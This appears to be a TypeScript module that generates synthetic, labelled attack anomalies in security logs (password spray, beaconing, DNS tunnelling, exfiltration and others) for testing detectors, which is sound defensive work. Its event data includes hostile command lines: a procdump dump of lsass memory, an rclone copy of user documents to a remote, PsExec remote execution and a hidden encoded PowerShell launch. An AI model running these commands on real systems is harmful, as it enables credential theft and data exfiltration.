/**
 * The injected anomalies: each type builds its events (own seeded PRNG, ids `<prefix>a<index>-<n>`, all within one
 * hour) and its label — type, entity, time window, ATT&CK technique, the detectors expected to see it, event ids.
 */
import { SeededRandom } from '../../demo/seeded-random.js';
import {
  cloudTrail,
  dnsQuery,
  proxyRequest,
  serviceInstalled,
  sysmonProcess,
  taskCreated,
  vpnLogin,
  webAccess,
  winLogon,
  type EcsDoc,
  type EventContext,
} from './ecs-events.js';
import { FOREIGN_GEOS, ipIn, type Population, type User } from './population.js';

export const ANOMALY_TYPES = [
  'rare_process',
  'rare_parent_child',
  'unusual_logon_hour',
  'new_country_asn',
  'failed_logon_spike',
  'password_spray',
  'first_privileged_cloud_action',
  'exfiltration_volume',
  'beaconing',
  'dga_dns',
  'dns_tunnelling',
  'new_service',
  'new_scheduled_task',
  'silent_source',
  'api_client_burst',
  'new_client_sensitive_endpoint',
  'impossible_travel',
] as const;
export type AnomalyType = (typeof ANOMALY_TYPES)[number];

export interface AnomalyLabel {
  id: string;
  type: AnomalyType;
  /** ATT&CK technique id. */
  technique: string;
  /** Baseline detectors (`rules/baselines` ids) expected to raise it. */
  detectors: string[];
  /** The entity the detectors key on (ECS field and value). */
  entity: { field: string; value: string };
  /** Time window [start, end). */
  start: string;
  end: string;
  /** Ids (`event.id`) of the injected events; empty for `silent_source` (the anomaly is the absence of events). */
  eventIds: string[];
  description: string;
}

export interface Silence {
  connector: string;
  host: string;
  startMs: number;
  endMs: number;
}

export interface PlannedAnomaly {
  label: AnomalyLabel;
  events: EcsDoc[];
  silence?: Silence;
}

const HOUR = 3_600_000;
const MIN = 60_000;
const W = 'C:\\Windows\\System32\\';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';
const RARE_TOOLS: [string, string, string][] = [
  ['AdFind.exe', 'T1087.002', 'adfind.exe -f "(objectcategory=person)" > ad_users.txt'],
  ['procdump64.exe', 'T1003.001', 'procdump64.exe -accepteula -ma lsass.exe lsass.dmp'],
  ['rclone.exe', 'T1567.002', 'rclone.exe copy C:\\Users\\Public\\Documents remote:backup'],
  ['PsExec64.exe', 'T1569.002', 'PsExec64.exe \\\\file01 -s cmd.exe'],
];

const letters = 'abcdefghijklmnopqrstuvwxyz';
const randomLabel = (rng: SeededRandom, n: number, alphabet = letters + '0123456789') =>
  Array.from({ length: n }, () => alphabet[rng.int(0, alphabet.length - 1)]).join('');

export interface AnomalyContext {
  ctx: EventContext;
  population: Population;
  idPrefix: string;
}

/** Builds anomaly `index` of `type` starting at the hour `hourMs`. */
export function buildAnomaly(
  a: AnomalyContext,
  type: AnomalyType,
  index: number,
  hourMs: number,
  rng: SeededRandom,
): PlannedAnomaly {
  const { ctx, population } = a;
  let n = 0;
  const id = () => `${a.idPrefix}a${index}-${n++}`;
  const at = (minute: number, second = 0) => hourMs + minute * MIN + second * 1000;
  const users = population.users;
  const pickUser = (roles: User['role'][]) => {
    const c = users.filter((u) => roles.includes(u.role));
    return rng.pick(c.length ? c : users);
  };
  const dc = population.servers.find((s) => s.kind === 'dc') ?? population.servers[0];
  const web = population.servers.find((s) => s.kind === 'web') ?? population.servers[0];
  const events: EcsDoc[] = [];
  let label: Omit<AnomalyLabel, 'id' | 'type' | 'eventIds' | 'start' | 'end'>;
  let silence: Silence | undefined;
  let endMs = hourMs + HOUR;

  switch (type) {
    case 'rare_process': {
      const u = pickUser(['sales', 'staff']);
      const [tool, technique, cmd] = rng.pick(RARE_TOOLS);
      const exe = `C:\\Users\\${u.name}\\Downloads\\${tool}`;
      for (let k = 0; k < 3; k++)
        events.push(
          sysmonProcess(ctx, id(), {
            t: at(10 + k * 7, rng.int(0, 59)),
            host: u.workstation,
            user: u.name,
            exe,
            parentExe: `${W}cmd.exe`,
            commandLine: cmd,
            pid: rng.int(2000, 9000),
          }),
        );
      label = {
        technique,
        detectors: ['rare-process-per-host'],
        entity: { field: 'host.name', value: u.workstation },
        description: `${tool} run on ${u.workstation}, a program no other host runs`,
      };
      break;
    }
    case 'rare_parent_child': {
      const u = pickUser(['sales', 'staff']);
      events.push(
        sysmonProcess(ctx, id(), {
          t: at(rng.int(0, 50), rng.int(0, 59)),
          host: u.workstation,
          user: u.name,
          exe: `${W}WindowsPowerShell\\v1.0\\powershell.exe`,
          parentExe: `${OFFICE}WINWORD.EXE`,
          commandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
          pid: rng.int(2000, 9000),
        }),
      );
      label = {
        technique: 'T1059.001',
        detectors: ['rare-parent-child-per-host'],
        entity: { field: 'host.name', value: u.workstation },
        description: `WINWORD.EXE started powershell.exe on ${u.workstation} (macro)`,
      };
      break;
    }
    case 'unusual_logon_hour': {
      const u = pickUser(['sales', 'staff']);
      events.push(
        winLogon(ctx, id(), {
          t: at(rng.int(5, 20)),
          host: u.workstation,
          user: u.name,
          success: true,
          logonType: '2',
        }),
      );
      events.push(
        winLogon(ctx, id(), {
          t: at(rng.int(21, 30)),
          host: dc.name,
          user: u.name,
          success: true,
          logonType: '3',
          sourceIp: u.ip,
        }),
      );
      label = {
        technique: 'T1078',
        detectors: ['unusual-logon-hour-per-user'],
        entity: { field: 'user.name', value: u.name },
        description: `${u.name} logs on at ${new Date(hourMs).getUTCHours()}:00 UTC, outside their usual hours`,
      };
      break;
    }
    case 'new_country_asn': {
      const u = pickUser(['sales', 'staff', 'developer']);
      const geo = rng.pick(FOREIGN_GEOS.slice(0, 3));
      events.push(
        vpnLogin(ctx, id(), { t: at(rng.int(0, 50)), user: u.name, sourceIp: ipIn(rng, geo), geo }),
      );
      label = {
        technique: 'T1133',
        detectors: ['rare-source-country-per-user', 'rare-source-asn-per-user'],
        entity: { field: 'user.name', value: u.name },
        description: `VPN logon of ${u.name} from ${geo.country} (AS${geo.asn} ${geo.asOrg}), never used before`,
      };
      break;
    }
    case 'impossible_travel': {
      const u = pickUser(['sales', 'staff', 'developer']);
      const geo = rng.pick(FOREIGN_GEOS.slice(3));
      events.push(vpnLogin(ctx, id(), { t: at(2), user: u.name, sourceIp: u.home.ip, geo: u.home }));
      events.push(
        vpnLogin(ctx, id(), { t: at(rng.int(30, 50)), user: u.name, sourceIp: ipIn(rng, geo), geo }),
      );
      label = {
        technique: 'T1078',
        detectors: ['impossible-travel'],
        entity: { field: 'user.name', value: u.name },
        description: `${u.name} logs on from ${u.home.country} then from ${geo.country} within the hour`,
      };
      break;
    }
    case 'failed_logon_spike': {
      const u = pickUser(['admin', 'developer', 'sales', 'staff']);
      const src = `10.99.${rng.int(1, 254)}.${rng.int(1, 254)}`;
      const start = rng.int(0, 45);
      for (let k = 0; k < 30; k++)
        events.push(
          winLogon(ctx, id(), {
            t: at(start, k * 15),
            host: dc.name,
            user: u.name,
            success: false,
            logonType: '3',
            sourceIp: src,
          }),
        );
      label = {
        technique: 'T1110.001',
        detectors: [
          'failed-logon-spike-per-user',
          'failed-logon-spike-per-source',
          'autoencoder-user-hourly',
        ],
        entity: { field: 'user.name', value: u.name },
        description: `30 failed logons for ${u.name} from ${src} in 8 minutes`,
      };
      break;
    }
    case 'password_spray': {
      const geo = rng.pick(FOREIGN_GEOS);
      const src = ipIn(rng, geo);
      const start = rng.int(0, 45);
      const targets = [...users].sort(() => rng.next() - 0.5).slice(0, Math.min(25, users.length));
      targets.forEach((u, k) =>
        events.push(
          vpnLogin(ctx, id(), { t: at(start, k * 20), user: u.name, sourceIp: src, geo, success: false }),
        ),
      );
      label = {
        technique: 'T1110.003',
        detectors: ['password-spray-distinct-users', 'failed-logon-spike-per-source'],
        entity: { field: 'source.ip', value: src },
        description: `${targets.length} accounts tried on the VPN from ${src} in ${Math.ceil((targets.length * 20) / 60)} minutes`,
      };
      break;
    }
    case 'first_privileged_cloud_action': {
      const u = pickUser(['developer']);
      const actions = ['CreateAccessKey', 'AttachUserPolicy'];
      actions.forEach((action, k) =>
        events.push(
          cloudTrail(ctx, id(), {
            t: at(10 + k * 3),
            user: u.name,
            service: 'iam',
            action,
            sourceIp: population.officeIp,
          }),
        ),
      );
      label = {
        technique: 'T1098.001',
        detectors: ['cloud-first-privileged-action', 'autoencoder-user-hourly'],
        entity: { field: 'user.name', value: u.name },
        description: `${u.name} calls ${actions.join(' and ')}, which no one does`,
      };
      break;
    }
    case 'exfiltration_volume': {
      const u = pickUser(['developer', 'sales', 'staff']);
      const domain = 'files.sharedrop-cloud.net';
      for (let k = 0; k < 25; k++)
        events.push(
          proxyRequest(ctx, id(), {
            t: at(k * 2, rng.int(0, 59)),
            user: u.name,
            sourceIp: u.ip,
            domain,
            destIp: '185.220.44.17',
            bytesOut: 90_000_000 + rng.int(0, 20_000_000),
            bytesIn: 800,
            method: 'POST',
            path: '/upload',
          }),
        );
      label = {
        technique: 'T1567.002',
        detectors: ['exfiltration-bytes-per-user', 'autoencoder-user-hourly'],
        entity: { field: 'user.name', value: u.name },
        description: `${u.name} uploads ~2.5 GB to ${domain} in an hour`,
      };
      break;
    }
    case 'beaconing': {
      const u = pickUser(['sales', 'staff', 'developer']);
      const domain = `cdn-${randomLabel(rng, 6, letters)}-update.com`;
      const start = rng.int(0, 5);
      for (let k = 0; k < 20; k++)
        events.push(
          proxyRequest(ctx, id(), {
            t: at(start) + k * 150_000 + rng.int(-4000, 4000),
            user: u.name,
            sourceIp: u.ip,
            domain,
            destIp: '45.77.65.211',
            bytesOut: 420 + rng.int(0, 40),
            bytesIn: 180,
            path: '/api/v2/check',
          }),
        );
      label = {
        technique: 'T1071.001',
        detectors: ['beaconing'],
        entity: { field: 'source.ip', value: u.ip },
        description: `${u.workstation} polls ${domain} every 150 s ± 4 s`,
      };
      break;
    }
    case 'dga_dns': {
      const u = pickUser(['sales', 'staff', 'developer']);
      const tlds = ['com', 'net', 'info', 'biz'];
      for (let k = 0; k < 30; k++)
        events.push(
          dnsQuery(ctx, id(), {
            t: at(k * 1.5, rng.int(0, 59)),
            user: u.name,
            host: u.workstation,
            sourceIp: u.ip,
            name: `${randomLabel(rng, rng.int(14, 20), letters)}.${rng.pick(tlds)}`,
            rcode: 'NXDOMAIN',
          }),
        );
      label = {
        technique: 'T1568.002',
        detectors: ['dns-generated-or-tunnel'],
        entity: { field: 'source.ip', value: u.ip },
        description: `${u.workstation} queries 30 generated domain names (NXDOMAIN)`,
      };
      break;
    }
    case 'dns_tunnelling': {
      const u = pickUser(['sales', 'staff', 'developer']);
      const domain = `${randomLabel(rng, 5, letters)}-telemetry.net`;
      for (let k = 0; k < 60; k++)
        events.push(
          dnsQuery(ctx, id(), {
            t: at(k, rng.int(0, 59)),
            user: u.name,
            host: u.workstation,
            sourceIp: u.ip,
            name: `${randomLabel(rng, 48, '0123456789abcdef')}.s${k}.${domain}`,
          }),
        );
      label = {
        technique: 'T1071.004',
        detectors: ['dns-generated-or-tunnel'],
        entity: { field: 'source.ip', value: u.ip },
        description: `${u.workstation} sends 60 long hex subdomains of ${domain} in an hour`,
      };
      break;
    }
    case 'new_service': {
      const host = rng.chance(0.5) ? rng.pick(population.servers).name : rng.pick(users).workstation;
      const name = `Win${randomLabel(rng, 4, letters)}Helper`;
      events.push(
        serviceInstalled(ctx, id(), {
          t: at(rng.int(0, 59)),
          host,
          name,
          path: `C:\\Windows\\Temp\\${randomLabel(rng, 8, letters)}.exe`,
        }),
      );
      label = {
        technique: 'T1543.003',
        detectors: ['rare-service-or-task'],
        entity: { field: 'host.name', value: host },
        description: `service ${name} installed on ${host}, never seen in the tenant`,
      };
      break;
    }
    case 'new_scheduled_task': {
      const u = pickUser(['sales', 'staff', 'developer']);
      const name = `\\Microsoft\\Windows\\${randomLabel(rng, 7, letters)}Sync`;
      events.push(taskCreated(ctx, id(), { t: at(rng.int(0, 59)), host: u.workstation, name, user: u.name }));
      label = {
        technique: 'T1053.005',
        detectors: ['rare-service-or-task'],
        entity: { field: 'host.name', value: u.workstation },
        description: `scheduled task ${name} created on ${u.workstation}`,
      };
      break;
    }
    case 'silent_source': {
      const s = rng.pick(population.servers);
      endMs = hourMs + 8 * HOUR;
      silence = { connector: 'sysmon', host: s.name, startMs: hourMs, endMs };
      label = {
        technique: 'T1562.002',
        detectors: ['silent-log-source'],
        entity: { field: 'host.name', value: s.name },
        description: `sysmon on ${s.name} sends nothing for 8 hours`,
      };
      break;
    }
    case 'api_client_burst': {
      const geo = rng.pick(FOREIGN_GEOS);
      const ip = ipIn(rng, geo);
      const start = rng.int(0, 40);
      for (let k = 0; k < 1500; k++)
        events.push(
          webAccess(ctx, id(), {
            t: at(start) + k * 400,
            host: web.name,
            clientIp: ip,
            method: 'GET',
            path: `/api/v1/products?page=${k}`,
            status: 200,
            bytes: 2400,
            geo,
          }),
        );
      label = {
        technique: 'T1595',
        detectors: ['api-client-rate'],
        entity: { field: 'source.ip', value: ip },
        description: `${ip} sends 1,500 API requests in 10 minutes`,
      };
      break;
    }
    case 'new_client_sensitive_endpoint': {
      const geo = rng.pick(FOREIGN_GEOS);
      const ip = ipIn(rng, geo);
      for (let k = 0; k < 4; k++)
        events.push(
          webAccess(ctx, id(), {
            t: at(rng.int(0, 59)),
            host: web.name,
            clientIp: ip,
            method: 'GET',
            path: '/api/admin/users',
            status: 200,
            bytes: 18000,
            geo,
          }),
        );
      label = {
        technique: 'T1190',
        detectors: ['new-client-sensitive-endpoint'],
        entity: { field: 'url.path', value: '/api/admin/users' },
        description: `${ip} (AS${geo.asn}) calls /api/admin/users, which only admins call`,
      };
      break;
    }
  }
  events.sort((x, y) => x['@timestamp'].localeCompare(y['@timestamp']));
  return {
    label: {
      id: `${a.idPrefix}a${index}`,
      type,
      ...label!,
      start: new Date(hourMs).toISOString(),
      end: new Date(endMs).toISOString(),
      eventIds: events.map((e) => e.event.id),
    },
    events,
    silence,
  };
}
